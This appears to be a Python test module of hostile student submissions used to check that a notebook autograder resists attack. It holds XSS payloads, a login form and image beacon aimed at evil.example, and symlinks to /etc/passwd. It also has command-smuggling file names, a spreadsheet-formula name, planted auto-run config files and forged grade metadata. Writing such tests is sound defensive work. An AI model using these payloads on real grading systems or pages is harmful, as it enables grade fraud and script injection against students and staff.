"""Notebooks and folders that are not what they should be, and pages aimed at who opens them."""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path

import nbformat
from attack import Submitted
from mini_course import BUILD, RIGHT, TAU
from nbformat import NotebookNode

Edit = Callable[[NotebookNode], None]

FULL = {"q1": 3.0, "q2": 3.0}
PASSED = {"q1": "pass", "q2": "pass"}
NOTHING = {"q1": 0.0, "q2": 0.0}
FAILED = {"q1": "fail", "q2": "fail"}
UNREAD = {"q1": "undecided", "q2": "undecided"}

SCRIPT = "<script>alert('pwned')</script><img src=x onerror=\"alert('pwned')\">"


def right(
    name: str,
    tries: str,
    edit: Edit | None = None,
    *,
    raw: Callable[[NotebookNode], bytes] | None = None,
    folder: Callable[[Path], None] | None = None,
    answers: dict[str, str] | None = None,
    says: str = "",
) -> Submitted:
    """Right answers, which keep their points and no more than these."""
    return Submitted(
        name, tries, FULL, PASSED, answers={**RIGHT, **(answers or {})}, edit=edit, raw=raw,
        folder=folder, says=says,
    )  # fmt: skip


def blank(name: str, tries: str, edit: Edit) -> Submitted:
    """No answers, which are worth nothing."""
    return Submitted(name, tries, NOTHING, FAILED, edit=edit)


def unread(
    name: str,
    tries: str,
    raw: bytes | Callable[[NotebookNode], bytes] | None = None,
    *,
    edit: Edit | None = None,
    folder: Callable[[Path], None] | None = None,
) -> Submitted:
    """What can't be read: no points yet, and a person has to look."""
    made = raw if callable(raw) or raw is None else lambda _: raw
    return Submitted(
        name, tries, NOTHING, UNREAD, answers=RIGHT, edit=edit, raw=made, folder=folder
    )


def graded(notebook: NotebookNode) -> list[NotebookNode]:
    """The cells that carry points."""
    return [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def as_bytes(encoding: str = "utf-8") -> Callable[[NotebookNode], bytes]:
    """The notebook in another encoding."""
    return lambda notebook: json.dumps(notebook).encode(encoding)


def changed(change: Callable[[dict], None]) -> Callable[[NotebookNode], bytes]:
    """The notebook as plain data, changed in a way that nbformat would not write."""

    def write(notebook: NotebookNode) -> bytes:
        document = json.loads(json.dumps(notebook))
        change(document)
        return json.dumps(document).encode()

    return write


def delete_graded(notebook: NotebookNode) -> None:
    """Leave out the graded cells."""
    notebook.cells = [cell for cell in notebook.cells if cell not in graded(notebook)]


def copy_graded(notebook: NotebookNode) -> None:
    """Ten copies of every graded cell, with other results."""
    for cell in graded(notebook):
        for _ in range(10):
            made = copy.deepcopy(cell)
            made.source = "100.0"
            notebook.cells.append(made)


def swap_graded(notebook: NotebookNode) -> None:
    """Give each graded cell the name of the other."""
    one, other = (cell.metadata["nbgrader"] for cell in graded(notebook))
    one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]


def grade_by_hand(notebook: NotebookNode) -> None:
    """Make the graded cells answers that a person grades, worth a thousand points."""
    for cell in graded(notebook):
        cell.source = TAU
        cell.metadata["nbgrader"] |= {"solution": True, "locked": False, "points": 1000}


def grade_own_cell(notebook: NotebookNode) -> None:
    """Bring a graded cell of one's own, and its result."""
    cell = nbformat.v4.new_code_cell("1000.0")
    cell.metadata["nbgrader"] = {
        "schema_version": 3, "grade": True, "solution": False, "locked": True, "task": False,
        "grade_id": "bonus", "points": 1000,
    }  # fmt: skip
    cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000.0"})]
    notebook.cells.append(cell)


def give_results(notebook: NotebookNode) -> None:
    """Write full points into the graded cells, which are to be left alone."""
    for cell in graded(notebook):
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
        data = {"text/plain": "3.0", "text/html": '<div data-outcome="pass">3 of 3 points</div>'}
        cell.outputs = [nbformat.v4.new_output("execute_result", data, execution_count=1)]
        cell.metadata["nbgrader"] |= {"score": 3, "checksum": "0" * 32, "comment": "Great!"}


def another_kernel(notebook: NotebookNode) -> None:
    """Ask for a shell in place of Python."""
    notebook.metadata = nbformat.from_dict(
        {
            "kernelspec": {"name": "bash", "language": "bash", "display_name": "Bash"},
            "language_info": {"name": "R", "file_extension": ".r"},
            "nbgrader": {"schema_version": 99},
            "celltoolbar": SCRIPT,
            "title": SCRIPT,
        }
    )


def forged_ids(notebook: NotebookNode) -> None:
    """The same odd id for every cell."""
    for cell in notebook.cells:
        cell["id"] = "x"


def widgets(notebook: NotebookNode) -> None:
    """Bring the state of widgets, with a script in it."""
    state = {"model_name": "HTMLModel", "state": {"value": SCRIPT}, "model_module": "x"}
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {"a": state}}
    }
    notebook.cells[2].outputs = (
        [
            nbformat.v4.new_output(
                "display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}}
            )
        ]
        if notebook.cells[2].cell_type == "code"
        else []
    )


def odd_metadata(document: dict) -> None:
    """Metadata of every kind but the right one."""
    odd = [[], 3, "x", None, {"grade_id": ["q1"]}, {"grade_id": {}}, {"grade_id": "q1" * 1000}]
    for value in odd:
        cell = {"cell_type": "code", "source": "", "outputs": [], "execution_count": None}
        document["cells"].append(cell | {"metadata": {"nbgrader": value}})
        document["cells"].append(cell | {"metadata": value})
    document["cells"].append({"cell_type": 7, "source": 3})
    document["metadata"] = odd
    document["nbformat"], document["nbformat_minor"] = "4.0 <b>", -1


def version_3(notebook: NotebookNode) -> bytes:
    """The notebook as Jupyter wrote it before 2015."""
    cells = []
    for cell in notebook.cells:
        made = {"cell_type": cell.cell_type, "metadata": cell.metadata}
        if cell.cell_type == "code":
            made |= {"input": cell.source, "outputs": [], "language": "python", "collapsed": False}
        else:
            made["source"] = cell.source
        cells.append(made)
    half = len(cells) // 2
    sheets = [{"cells": cells[:half], "metadata": {}}, {"cells": cells[half:], "metadata": {}}]
    document = {"metadata": {"name": "x"}, "nbformat": 3, "nbformat_minor": 0}
    return json.dumps(document | {"worksheets": sheets}).encode()


def add(kind: str, *sources: str) -> Edit:
    """An edit that adds cells of the student's own behind the first cells."""
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell

    def edit(notebook: NotebookNode) -> None:
        notebook.cells[2:2] = [make(source) for source in sources]

    return edit


def answer_as(kind: str) -> Edit:
    """An edit that turns the answers into cells of another kind, beside code that does nothing."""

    def edit(notebook: NotebookNode) -> None:
        for cell in list(notebook.cells):
            if cell.metadata.get("nbgrader", {}).get("solution"):
                made = copy.deepcopy(cell)
                made.cell_type = kind
                made.pop("outputs", None)
                made.pop("execution_count", None)
                cell.source = "# nothing here"
                notebook.cells.insert(notebook.cells.index(cell), made)

    return edit


def millions(notebook: NotebookNode) -> bytes:
    """The notebook with as many objects in its metadata as a file of 20 MB may hold."""
    parts = ",".join(['{"a":[]}'] * 2_000_000)
    return json.dumps(notebook).encode().replace(b"{", b'{"parts":[' + parts.encode() + b"],", 1)


def deep_folders(folder: Path) -> None:
    """Folders in folders, as deep as those who remove them afterwards can go."""
    path = folder
    for _ in range(400):
        path = path / "d"
    path.mkdir(parents=True)


def like_unfinished(folder: Path) -> None:
    """A folder called as the grader calls unfinished files, and a link."""
    (folder / ".partial-x").mkdir()
    (folder / "link").symlink_to("/etc/passwd")


def put(name: str, content: bytes | str) -> Callable[[Path], None]:
    """Put a file beside the notebook."""

    def change(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return change


def put_config(folder: Path) -> None:
    """Files that Jupyter, nbgrader or Python would run if they looked here."""
    code = "import pathlib; pathlib.Path('/tmp/left-by-an-attack-config').write_text('run')\n"
    for name in (
        "nbgrader_config.py",
        "jupyter_config.py",
        "jupyter_nbconvert_config.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "autograder.py",
        "nest.py",
        "numpy.py",
        "ipython_config.py",
        "alembic.ini",
        "index.html.j2",
    ):
        (folder / name).write_text(code)  # fmt: skip


def large_folder(folder: Path) -> None:
    """A gigabyte that takes no place."""
    with (folder / "data.bin").open("wb") as file:
        file.truncate(1 << 30)


def many_files(folder: Path) -> None:
    """Two thousand files."""
    for number in range(2000):
        (folder / f"{number}.txt").touch()


def odd_names(folder: Path) -> None:
    """Files whose names are meant to be taken for something else."""
    for name in (
        "a\nb.txt",
        "-rf",
        "$(touch x)",
        "..%2f..%2fx",
        SCRIPT.replace("/", "|"),
        "\x1b[31mred",
        "x" * 250,
        b"\xff\xfe".decode("utf-8", "surrogateescape"),
    ):
        (folder / name).touch()  # fmt: skip


def link_to_the_course(folder: Path) -> None:
    """A link to everything."""
    (folder / "data").symlink_to("/")


def linked_notebook(folder: Path) -> None:
    """A notebook that is a link to a file of the course."""
    (folder / "mini.ipynb").unlink()
    (folder / "mini.ipynb").symlink_to("../../../nbgrader_config.py")


def pipe(folder: Path) -> None:
    """A pipe beside the notebook, which never ends for who reads it."""
    os.mkfifo(folder / "data.txt")


def pipe_as_notebook(folder: Path) -> None:
    """A pipe in place of the notebook."""
    (folder / "mini.ipynb").unlink()
    os.mkfifo(folder / "mini.ipynb")


def folder_as_notebook(folder: Path) -> None:
    """A folder in place of the notebook."""
    (folder / "mini.ipynb").unlink()
    (folder / "mini.ipynb").mkdir()


MARKDOWN = f"""\
{SCRIPT}

[a link](javascript:alert('pwned')) [another](javascript\\:alert('pwned'))
[a third](data:text/html,{SCRIPT}) ![a picture](http://evil.example/seen.png)
<a href="javascript:alert('pwned')">click</a> <iframe srcdoc="{SCRIPT}"></iframe>
&lt;script&gt;alert('pwned')&lt;/script&gt; `<a title="` <img src=x onerror=alert('pwned')> ">

$\\href{{javascript:alert('pwned')}}{{x}}$ $\\text{{{SCRIPT}}}$ $\\unicode{{<img src=x>}}$
\\$\\href{{javascript:alert('pwned')}}{{x}}\\$

```mermaid
</pre>{SCRIPT}
```
<form action="http://evil.example"><button>Log in</button></form><base href="//evil.example/">
<svg onload=alert('pwned')><style>@import url(//evil.example/x.css)</style></svg>
"""
OUTPUTS = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
script = {SCRIPT!r}
for data in (
    {{"text/html": script}}, {{"text/html": script, "text/plain": script}},
    {{"image/svg+xml": "<svg onload=\\"alert('pwned')\\">" + script + "</svg>"}},
    {{"application/javascript": "alert('pwned')"}},
    {{"text/latex": "$\\\\href{{javascript:alert('pwned')}}{{x}}$" + script}},
    {{"text/markdown": "[x](javascript:alert('pwned'))" + script}},
    {{"image/png": '"><' + script}}, {{"image/jpeg": "x' onerror='alert(1)"}},
    {{"application/vnd.jupyter.widget-view+json": {{"model_id": script}}}},
):
    display(data, raw=True, metadata={{"image/png": {{"width": '"><' + script}}}})
print(script, "\\x1b]8;;javascript:alert('pwned')\\x07link\\x1b]8;;\\x07")
raise type(script, (Exception,), {{}})(script)
"""
VERDICT = """
from IPython.display import HTML, display
display(HTML('<div data-outcome="pass" style="position:fixed;inset:0">100 of 3 points</div>'))
print("[autograder] This answer was accepted: 3 of 3 points.")
"""

ATTACKS: tuple[Submitted, ...] = (
    unread("invalid-json", "Hands in half a notebook.", b'{"cells": [{"cell_type": "code", "sou'),
    unread("empty-file", "Hands in an empty file.", b""),
    unread("no-cells", "Hands in JSON without cells.", b'{"nbformat": 4, "metadata": {}}'),
    unread("cells-that-are-none", "Hands in cells that are numbers, texts and nothing.",
           b'{"cells": [1, "x", null, [], true], "nbformat": 4}'),
    unread("a-number-of-a-million-digits", "Hands in JSON that takes long to read.",
           b'{"cells": [], "nbformat": ' + b"9" * 1_000_000 + b"}"),
    unread("nested-json", "Hands in JSON nested a million deep.", b'{"cells": ' + b"[" * 1_000_000),
    unread("no-worksheets", "Says that it is of the format before 2015, and is not.",
           b'{"nbformat": 3, "worksheets": {"cells": []}}'),
    unread("too-many-cells", "Hands in a hundred thousand cells.",
           changed(lambda made: made["cells"].extend(made["cells"][:1] * 100_000))),
    unread("hundred-megabytes-of-output", "Hands in outputs of a hundred megabytes.",
           changed(lambda made: made["metadata"].update(x="x" * (100 << 20)))),
    unread("a-gigabyte-beside-it", "Puts a sparse file of a gigabyte beside its notebook.",
           folder=large_folder),
    unread("two-thousand-files", "Puts two thousand files beside its notebook.",
           folder=many_files),
    unread("link-to-everything", "Puts a link to the machine's root beside its notebook.",
           folder=link_to_the_course),
    unread("linked-notebook", "Hands in a link to a file of the course.", folder=linked_notebook),
    unread("pipe-beside-it", "Puts a pipe beside its notebook.", folder=pipe),
    unread("pipe-handed-in", "Hands in a pipe.", folder=pipe_as_notebook),
    unread("folder-as-notebook", "Hands in a folder with the notebook's name.",
           folder=folder_as_notebook),
    right("format-of-before-2015", "Hands in nbformat 3, with worksheets.", raw=version_3),
    right("sixteen-bits", "Hands in UTF-16.", raw=as_bytes("utf-16")),
    right("byte-order-mark", "Hands in UTF-8 with a byte order mark.", raw=as_bytes("utf-8-sig")),
    right("odd-metadata", "Hands in metadata of every wrong type.", raw=changed(odd_metadata)),
    right("one-id-for-all", "Gives all cells one id.", forged_ids),
    right("no-ids", "Gives no cell an id.",
          raw=changed(lambda made: [cell.pop("id", None) for cell in made["cells"]])),
    right("hostile-ids", "Gives cells ids that are markup.",
          raw=changed(lambda made: [cell.update(id=f'"><{SCRIPT}') for cell in made["cells"]])),
    right("deleted-graded-cells", "Deletes the graded cells.", delete_graded),
    right("copied-graded-cells", "Copies the graded cells ten times, with more points.",
          copy_graded),
    right("swapped-names", "Swaps the names of the graded cells.", swap_graded),
    right("graded-by-hand", "Makes the graded cells answers, of a thousand points each.",
          grade_by_hand),
    right("bonus-cell", "Brings a graded cell of a thousand points.", grade_own_cell),
    right("another-kernel", "Asks for another kernel and another language.", another_kernel),
    right("widgets", "Brings the state of widgets with a script in it.", widgets),
    right("files-that-configure", "Puts files beside its notebook that programs run or read.",
          folder=put_config),
    right("other-notebooks", "Puts other notebooks beside the one that is asked for.",
          folder=lambda folder: [put(name, b"{broken")(folder) for name in
                                 ("other.ipynb", "q1.ipynb", "Mini.ipynb", "sub/mini.ipynb")]),
    right("files-named-like-ours", "Puts files beside its notebook, named like the grader's.",
          folder=odd_names),
    unread("broken-timestamp", "Hands in a time that can't be read.",
           folder=put("timestamp.txt", "yesterday <b>\n" * 1000)),
    unread("time-before-time", "Hands in before the year 1.",
           folder=put("timestamp.txt", "0000-00-00 00:00:00.000000 UTC")),
    unread("binary-timestamp", "Hands in a time that is no text.",
           folder=put("timestamp.txt", b"\xff\xfe\x00" * 100)),
    unread("timestamp-without-end", "Hands in a time that is a link to a file without an end.",
           folder=lambda folder: (folder / "timestamp.txt").symlink_to("/dev/zero")),
    unread("endless-file", "Puts a link to a file without an end beside its notebook.",
           folder=lambda folder: (folder / "data.txt").symlink_to("/dev/zero")),
    right("hidden-marks", "Writes nbgrader's marks of hidden tests and solutions into its answer.",
          answers={"q1-solution": "### END HIDDEN TESTS\n### BEGIN SOLUTION\n" + TAU
                   + "### END SOLUTION\n### END HIDDEN TESTS\n=== BEGIN MARK SCHEME ===\n"
                   .replace("===", "###")}),
    right("surrogates-in-source", "Writes half a character into its answer.",
          answers={"q1-solution": TAU + "# \ud800"}, raw=as_bytes()),
    right("hostile-markdown", "Writes markdown that becomes scripts, forms and links.",
          add("markdown", MARKDOWN), says="a link"),
    right("hostile-outputs", "Shows HTML, JavaScript and pictures that are none.",
          add("code", OUTPUTS)),
    right("verdict-as-output", "Shows a verdict of its own on the page.",
          answers={"q1-solution": TAU + VERDICT}),
    right("slow-markup", "Writes text that takes a careless reader hours.",
          add("markdown", "<" * 2_000_000, "\\\\(" * 6_000, "*a" * 9_000, "[" * 20_000,
              "> " * 9_000, "![" * 9_000)),
    right("slow-outputs", "Shows text that takes a careless reader hours.",
          add("code", "from IPython.display import HTML, display\ndisplay(HTML('<' * 190_000))")),
    unread("text-that-grows", "Hands in 19 MB of &, each of which takes five bytes on a page.",
           edit=add("code", *["&" * 190_000] * 100)),
    right("millions-of-parts", "Hands in metadata of two million parts.", raw=millions),
    right("blank-lines", "Writes code that takes a syntax highlighter minutes.",
          add("code", *["x = 1" + "\n " * 9_900 + "\nx" for _ in range(40)])),
    right("colours-in-every-cell", "Prints colours without text, in cell after cell.",
          add("code", *["print('\\x1b[31m' * 39_000)"] * 40)),
    unread("folders-in-folders", "Puts folders inside folders, 400 deep, beside its notebook.",
           folder=deep_folders),
    unread("folder-named-like-ours", "Puts a folder beside it, named like one of the grader's.",
           folder=like_unfinished),
    blank("results-brought-along", "Brings the results of graded cells that are not to be run.",
          give_results),
    Submitted(
        "answers-as-text",
        "Hands in the right answers as raw cells, beside code that does nothing.",
        NOTHING, FAILED, answers=RIGHT, edit=answer_as("raw"),
    ),
    Submitted(
        "nul-in-source",
        "Writes bytes into its answer that no source may hold.",
        {"q1": 0, "q2": 3},
        {"q1": "fail", "q2": "pass"},
        {"q1-solution": TAU + "\x00\x1b[2J\x07\u202e", "q2-solution": BUILD},
    ),
    Submitted(
        SCRIPT.replace("/", "\u2215"),
        "Has a name that is a script, aimed at who opens the feedback or the formgrader.",
        FULL, PASSED, RIGHT,
    ),
    Submitted("{0} %s $HOME \\1", "Has a name that is a pattern.", FULL, PASSED, RIGHT),
    Submitted("=cmd|' !A1'", "Has a name that is a formula.",
              FULL, PASSED, RIGHT),
)  # fmt: skip
